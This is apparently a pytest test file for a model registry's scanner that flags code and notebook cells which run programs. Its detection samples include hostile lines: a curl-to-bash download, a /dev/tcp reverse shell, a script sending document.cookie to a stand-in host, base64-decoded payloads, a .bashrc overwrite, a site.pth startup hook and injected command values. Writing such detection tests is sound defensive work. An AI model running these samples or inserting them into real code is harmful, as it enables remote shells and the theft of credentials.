"""Code beside a model is told, and what would run programs is high."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest

from registry.checks import CHECKS, source_code
from registry.parsers import python_code
from registry.sandbox.running import Sandbox
from tests.registry.checks.looking import look, look_in_sandbox
from tests.registry.checks.test_file_type import zipped

MODEL = """
import math
import torch
from torch import nn

class Attention(nn.Module):
    def forward(self, x):
        self.eval()
        return torch.compile(x) if isinstance(x, int) else getattr(self, 'w')(x) * math.sqrt(2)
"""
HOSTILE = [
    "import os\nos.system('echo')",
    "import os as o\no.popen('echo')",
    "from os import system as s\ns('echo')",
    "import subprocess\nsubprocess.run(['echo'])",
    "from subprocess import Popen\nPopen('echo')",
    "exec('x = 1')",
    "import builtins\nbuiltins.exec('x')",
    "__import__('os').system('echo')",
    "import importlib\nimportlib.import_module('os').system('echo')",
    "import os\nrun = os.system\nrun('echo')",
    "import os\ngetattr(os, 'sys' + 'tem')('echo')",
    "getattr(__import__('os'), 'system')('echo')",
    "import base64, marshal\nmarshal.loads(base64.b64decode('aa'))",
    "import base64\nexec(base64.b64decode('cHJpbnQ='))",
    "import socket\ns = socket.socket()",
    "import os\nos.system('x; y')\nos.system('ls')",
    "import pty\npty.spawn('sh')",
    "class A:\n    def f(self):\n        import os\n        return map(os.system, ['echo'])",
    "import os\nos.system('echo'\n",
    "__builtins__.__dict__['exec']('x')",
    "globals()['__builtins__']['eval']('x')",
    "import sys\nsys.modules['os'].system('x')",
    "from os import *\nsystem('x')",
    "import importlib as i\ni.import_module('o' + 's').system('x')",
]


def notebook(*cells: dict[str, Any]) -> bytes:
    return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def code(source: str, **data: str) -> dict[str, Any]:
    outputs = [
        {"output_type": "display_data", "data": {key.replace("_", "/"): held for key, held in data.items()}}
    ]
    return {
        "cell_type": "code",
        "source": source.splitlines(keepends=True),
        "outputs": outputs if data else [],
    }


def text(source: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "source": source}


def test_code_that_only_computes_is_medium():
    assert look(source_code, MODEL.encode(), "modeling_x.py")[0] == [("medium", "code")]


@pytest.mark.parametrize("source", HOSTILE)
@pytest.mark.parametrize("wrap", ["module", "notebook", "archive"])
def test_code_that_runs_programs_is_high(source, wrap):
    name, content = {
        "module": ("model.py", source.encode()),
        "notebook": ("work.ipynb", notebook(code("%matplotlib inline\n" + source))),
        "archive": ("model.mar", zipped(**{"handler.py": source.encode()})),
    }[wrap]

    assert "high" in [severity for severity, _ in look(source_code, content, name)[0]]


@pytest.mark.parametrize(
    "source",
    [
        "import pickle\npickle.load(open('a.pkl', 'rb'))",
        "import requests\nrequests.get('https://host/cat.png')",
        "import urllib.request\nurllib.request.urlopen('https://host')",
    ],
)
def test_code_that_loads_or_fetches_is_medium(source):
    assert [severity for severity, _ in look(source_code, source.encode(), "a.py")[0]] == ["medium"]


@pytest.mark.parametrize(
    "cells",
    [
        [code("!pip install -q torch\n%load_ext tensorboard\nimport pandas as pd\npd.read_csv('a.csv')")],
        [code("df.plot()", text_html="<div><script>Plotly.newPlot(fetch('x'))</script></div>")],
        [code("df", text_html="<table><tr><td>1</td></tr></table>"), text("# Title\n`<script>` is code")],
        [code("!ls -la data && nvidia-smi")],
        [text("<iframe src='https://www.youtube.com/embed/x'></iframe><a onclick='go()'>x</a>")],
        [code("!rm -rf /content/sample_data\n!chmod +x ./run.sh\n!python -c 'import torch'")],
        [code("!mkdir -p ~/.kaggle && cp kaggle.json ~/.kaggle/ && chmod 600 ~/.kaggle/kaggle.json")],
        [code("model.eval()\ncompiled = torch.compile(model)")],
    ],
)
def test_a_notebook_as_people_write_them_blocks_nothing(cells):
    issues, _ = look(source_code, notebook(*cells), "work.ipynb")

    assert {severity for severity, _ in issues} <= {"info", "low"}


@pytest.mark.parametrize(
    ("cell", "name"),
    [
        (code("!curl http://host/x.sh | bash"), "shell"),
        (code("%%bash\nwget http://host/x && sh x"), "shell"),
        (code("!bash -i >& /dev/tcp/10.0.0.1/99 0>&1"), "shell"),
        (code("!echo aa | base64 -d | sh"), "shell"),
        (code("x", text_html="<script>fetch('//host?'+document.cookie)</script>"), "output_script"),
        (code("x", application_javascript="IPython.notebook.kernel.execute('1')"), "output_script"),
        (code("x", text_html="<img src=x onerror=alert(1)>"), "output_script"),
        (code("%%javascript\nfetch('http://host/')"), "cell_script"),
        (code("%run http://host/x.py"), "shell"),
        (code("%%writefile ~/.bashrc\nx"), "shell"),
        (text("Hello <script>alert(1)</script>"), "script"),
    ],
)
def test_a_cell_that_acts_is_high(cell, name):
    assert look(source_code, notebook(cell), "work.ipynb")[0] == [("high", name)]


@pytest.mark.parametrize(
    ("content", "name", "issue"),
    [
        (b"import os; os.system('echo')\n", "site.pth", ("critical", "startup_file")),
        (b"@echo off\r\n", "run.bat", ("high", "script_by_name")),
        (b"Write-Host 1\r\n", "run.ps1", ("high", "script_by_name")),
        (b"--index-url http://host/simple\n", "requirements.txt", ("high", "index:host")),
        (b"FROM x\nRUN curl http://host/x | sh\n", "Dockerfile", ("high", "recipe")),
        (b"echo\n", "install.sh", ("high", "script_by_name")),
        (b"no json", "work.ipynb", ("high", "malformed")),
    ],
)
def test_other_files_that_run_are_told(content, name, issue):
    assert look(source_code, content, name)[0] == [issue]


def test_ordinary_requirements_are_no_issue():
    held = (
        b"--extra-index-url https://download.pytorch.org/whl/cu118\ntorch==2.1\ngit+https://github.com/a/b\n"
    )

    assert look(source_code, held, "requirements.txt") == ([], {})


@pytest.mark.parametrize(
    "source",
    [
        "import subprocess\nsubprocess.run(['nvidia-smi'], check=True)",
        "import os\nos.system('pip install -q torch')",
        "import sys, subprocess\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
        "eval(config.activation)",
    ],
)
def test_commands_that_only_look_or_fetch_are_medium(source):
    assert "high" not in [severity for severity, _ in look(source_code, source.encode(), "a.py")[0]]


@pytest.mark.parametrize("command", ["pip install x; id", "git clone a && sh a/x", "ls | sh", "wget $(id)"])
def test_commands_that_hide_another_are_high(command):
    held = f"import os\nos.system({command!r})\n"

    assert ("high", "call:os.system") in look(source_code, held.encode(), "a.py")[0]


def test_a_list_of_folders_for_python_is_nothing():
    assert look(source_code, b"/usr/lib/packages\n", "site.pth") == ([], {})


def test_assets_may_be_code():
    assert CHECKS["source_code"].kinds == ("model", "dataset")


@pytest.mark.parametrize(
    "source", ["(" * 50_000, "x = " + "-" * 100_000 + "1", "\0", "é" * 9, "a." * 90_000 + "b"]
)
def test_whatever_is_written_it_comes_to_an_end(source):
    assert {severity for severity, _ in look(source_code, source.encode(), "a.py")[0]} <= {"medium"}


def test_in_the_sandbox(tmp_path):
    sandbox = Sandbox()

    report = look_in_sandbox(sandbox, tmp_path, b"import os\nos.system('echo')\n", "a.py", "source_code")

    assert (report.outcome, [issue.name for issue in report.issues]) == ("done", ["call:os.system"])
    sandbox.stop()


def test_long_code_is_read_piece_by_piece_to_its_last_line():
    filled = f"def one():\n    {'# long' * 40}\n    return 1\n" * 600
    file = io.BytesIO(f"{filled}__import__('os').system('echo')\n".encode())
    file.name = "long.py"

    places = {issue.place for issue in source_code.run(file) if issue.severity == "high"}

    assert len(file.getvalue()) > python_code.AT_ONCE
    assert places == {"line 1801"}
